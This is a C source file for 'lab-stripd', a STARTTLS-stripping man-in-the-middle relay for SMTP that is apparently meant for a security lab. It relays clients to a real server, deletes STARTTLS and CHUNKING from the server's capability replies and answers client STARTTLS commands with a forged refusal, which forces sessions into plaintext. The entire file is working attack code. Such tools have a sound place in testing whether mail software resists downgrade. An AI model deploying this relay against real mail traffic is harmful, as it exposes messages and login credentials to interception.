/*
 * stripd.c - the lab's attacker: an SMTP relay that strips STARTTLS.
 *
 * NAME
 *	lab-stripd - STARTTLS-stripping man in the middle for SMTP
 *
 * SYNOPSIS
 *	lab-stripd [-p pidfile] [-t seconds] LISTEN-ADDRESS PORT TARGET-ADDRESS PORT
 *
 * DESCRIPTION
 *	Accepts SMTP clients on LISTEN-ADDRESS:PORT and relays each one to the
 *	real server at TARGET-ADDRESS:PORT, in one child process per connection
 *	(at most -t seconds, default 300).  On the way it
 *
 *	  - removes the STARTTLS (and CHUNKING, whose binary BDAT chunks a line
 *	    relay cannot follow) lines from every multi-line 250 reply, and
 *	    rewrites the continuation marks so the last line left is "250 ";
 *	  - answers a STARTTLS command itself with "502 5.5.1 command not
 *	    recognized" and never forwards it;
 *	  - passes message content (after DATA was answered 354) untouched.
 *
 *	The pid file is written once the listener is bound.
 *
 * DIAGNOSTICS
 *	One line per connection and per stripped item on standard error.  Exit
 *	status 0 after SIGTERM/SIGINT, 1 on a start-up error, 2 on usage error.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <ctype.h>
#include <errno.h>
#include <netdb.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define LINE_MAX_LEN 4096
#define REPLY_MAX 65536

static volatile sig_atomic_t stop_requested;

static void logmsg(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void logmsg(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fputs("lab-stripd: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
}

static void on_stop(int sig)
{
	(void)sig;
	stop_requested = 1;
}

/* A byte stream cut into lines; a line longer than LINE_MAX_LEN is cut. */
struct linebuf {
	char data[LINE_MAX_LEN];
	size_t used;
};

/* The relay state shared by both directions of one session. */
struct session {
	int client;
	int server;
	bool data_pending; /* client sent DATA, reply not seen yet */
	bool data_mode;    /* message content flows from the client */
	char reply[REPLY_MAX];
	size_t reply_used;
};

static int write_all(int fd, const char *buf, size_t len)
{
	while (len > 0) {
		ssize_t n = write(fd, buf, len);

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		buf += n;
		len -= (size_t)n;
	}
	return 0;
}

/* True when the reply line's text (after "250-") names the keyword. */
static bool names_keyword(const char *line, size_t len, const char *kw)
{
	size_t kwlen = strlen(kw);

	if (len < 4 + kwlen || strncasecmp(line + 4, kw, kwlen) != 0)
		return false;
	return len == 4 + kwlen || isspace((unsigned char)line[4 + kwlen]);
}

/*
 * Rewrite the buffered multi-line reply without STARTTLS and CHUNKING, fix
 * the continuation marks and send it to the client.
 */
static int flush_reply(struct session *s)
{
	char out[REPLY_MAX];
	size_t out_used = 0, last_start = 0, pos = 0;
	bool first = true, any = false;

	while (pos < s->reply_used) {
		const char *line = s->reply + pos;
		const char *nl = memchr(line, '\n', s->reply_used - pos);
		size_t len = nl ? (size_t)(nl - line) + 1 : s->reply_used - pos;

		pos += len;
		if (!first && (names_keyword(line, len, "STARTTLS") ||
			       names_keyword(line, len, "CHUNKING"))) {
			size_t shown = len;

			while (shown > 4 && (line[shown - 1] == '\n' || line[shown - 1] == '\r'))
				shown--;
			logmsg("stripped %.*s", (int)(shown - 4), line + 4);
			continue;
		}
		first = false;
		last_start = out_used;
		memcpy(out + out_used, line, len);
		if (len >= 4)
			out[out_used + 3] = '-';
		out_used += len;
		any = true;
	}
	if (any && out_used - last_start >= 4)
		out[last_start + 3] = ' ';
	s->reply_used = 0;
	return write_all(s->client, out, out_used);
}

/* One complete line from the server. */
static int server_line(struct session *s, const char *line, size_t len)
{
	bool reply = len >= 4 && isdigit((unsigned char)line[0]) &&
		     isdigit((unsigned char)line[1]) && isdigit((unsigned char)line[2]);
	bool more = reply && line[3] == '-';

	if (reply && s->data_pending) {
		s->data_pending = false;
		s->data_mode = strncmp(line, "354", 3) == 0;
	}
	if (!reply || (!more && s->reply_used == 0))
		return write_all(s->client, line, len);
	if (s->reply_used + len > sizeof(s->reply)) {
		if (flush_reply(s) < 0)
			return -1;
		return write_all(s->client, line, len);
	}
	memcpy(s->reply + s->reply_used, line, len);
	s->reply_used += len;
	return more ? 0 : flush_reply(s);
}

static bool is_command(const char *line, size_t len, const char *cmd)
{
	size_t n = strlen(cmd);

	while (len > 0 && (line[len - 1] == '\n' || line[len - 1] == '\r' ||
			   line[len - 1] == ' '))
		len--;
	return len == n && strncasecmp(line, cmd, n) == 0;
}

/* One complete line from the client. */
static int client_line(struct session *s, const char *line, size_t len)
{
	if (s->data_mode) {
		if (is_command(line, len, "."))
			s->data_mode = false;
		return write_all(s->server, line, len);
	}
	if (is_command(line, len, "STARTTLS")) {
		static const char refuse[] = "502 5.5.1 command not recognized\r\n";

		logmsg("refused STARTTLS from client");
		return write_all(s->client, refuse, sizeof(refuse) - 1);
	}
	if (is_command(line, len, "DATA"))
		s->data_pending = true;
	return write_all(s->server, line, len);
}

/* Read what is there on fd and feed every complete line to fn. */
static int pump(struct session *s, int fd, struct linebuf *lb,
		int (*fn)(struct session *, const char *, size_t))
{
	ssize_t n = read(fd, lb->data + lb->used, sizeof(lb->data) - lb->used);
	size_t start = 0;

	if (n <= 0)
		return -1;
	lb->used += (size_t)n;
	for (size_t i = 0; i < lb->used; i++) {
		if (lb->data[i] != '\n')
			continue;
		if (fn(s, lb->data + start, i + 1 - start) < 0)
			return -1;
		start = i + 1;
	}
	if (start == 0 && lb->used == sizeof(lb->data)) {
		if (fn(s, lb->data, lb->used) < 0)
			return -1;
		start = lb->used;
	}
	memmove(lb->data, lb->data + start, lb->used - start);
	lb->used -= start;
	return 0;
}

static int connect_to(const char *addr, const char *port)
{
	struct addrinfo hints = { 0 }, *ai = NULL;
	int fd;

	hints.ai_socktype = SOCK_STREAM;
	hints.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV;
	if (getaddrinfo(addr, port, &hints, &ai) != 0)
		return -1;
	fd = socket(ai->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) < 0) {
		close(fd);
		fd = -1;
	}
	freeaddrinfo(ai);
	return fd;
}

static void relay(int client, const char *taddr, const char *tport)
{
	static struct session s;
	static struct linebuf from_client, from_server;
	struct pollfd pfd[2];

	s.client = client;
	s.server = connect_to(taddr, tport);
	if (s.server < 0) {
		static const char busy[] = "421 4.3.0 relay target unreachable\r\n";

		logmsg("cannot reach %s:%s: %s", taddr, tport, strerror(errno));
		write_all(client, busy, sizeof(busy) - 1);
		return;
	}
	pfd[0] = (struct pollfd){ .fd = client, .events = POLLIN };
	pfd[1] = (struct pollfd){ .fd = s.server, .events = POLLIN };
	for (;;) {
		if (poll(pfd, 2, -1) < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		if (pfd[0].revents & (POLLIN | POLLHUP | POLLERR) &&
		    pump(&s, client, &from_client, client_line) < 0)
			break;
		if (pfd[1].revents & (POLLIN | POLLHUP | POLLERR) &&
		    pump(&s, s.server, &from_server, server_line) < 0)
			break;
	}
	close(s.server);
}

static int open_listener(const char *addr, const char *port)
{
	struct addrinfo hints = { 0 }, *ai = NULL;
	int fd, one = 1;

	hints.ai_socktype = SOCK_STREAM;
	hints.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV | AI_PASSIVE;
	if (getaddrinfo(addr, port, &hints, &ai) != 0) {
		logmsg("bad address %s:%s", addr, port);
		return -1;
	}
	fd = socket(ai->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd >= 0) {
		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		if (bind(fd, ai->ai_addr, ai->ai_addrlen) < 0 || listen(fd, 64) < 0) {
			logmsg("%s:%s: %s", addr, port, strerror(errno));
			close(fd);
			fd = -1;
		}
	}
	freeaddrinfo(ai);
	return fd;
}

int main(int argc, char **argv)
{
	const char *pidfile = NULL;
	unsigned lifetime = 300;
	struct sigaction sa = { 0 };
	int opt, lfd;

	while ((opt = getopt(argc, argv, "p:t:h")) != -1) {
		switch (opt) {
		case 'p': pidfile = optarg; break;
		case 't': lifetime = (unsigned)strtoul(optarg, NULL, 10); break;
		default: goto usage;
		}
	}
	if (argc - optind != 4)
		goto usage;
	lfd = open_listener(argv[optind], argv[optind + 1]);
	if (lfd < 0)
		return 1;
	signal(SIGPIPE, SIG_IGN);
	sa.sa_handler = on_stop;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	if (pidfile != NULL) {
		FILE *f = fopen(pidfile, "w");

		if (f == NULL || fprintf(f, "%ld\n", (long)getpid()) < 0 || fclose(f) != 0) {
			logmsg("%s: cannot write", pidfile);
			return 1;
		}
	}
	logmsg("ready on %s:%s, relaying to %s:%s", argv[optind], argv[optind + 1],
	       argv[optind + 2], argv[optind + 3]);
	while (!stop_requested) {
		struct pollfd pfd = { .fd = lfd, .events = POLLIN };
		int cfd;
		pid_t pid;

		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		if (poll(&pfd, 1, 1000) <= 0)
			continue;
		cfd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
		if (cfd < 0)
			continue;
		pid = fork();
		if (pid == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			signal(SIGTERM, SIG_DFL);
			alarm(lifetime);
			close(lfd);
			logmsg("connection");
			relay(cfd, argv[optind + 2], argv[optind + 3]);
			_exit(0);
		}
		close(cfd);
	}
	if (pidfile != NULL)
		unlink(pidfile);
	logmsg("stopped");
	return 0;
usage:
	fputs("usage: lab-stripd [-p pidfile] [-t seconds] LISTEN-ADDRESS PORT "
	      "TARGET-ADDRESS PORT\n", stderr);
	return 2;
}
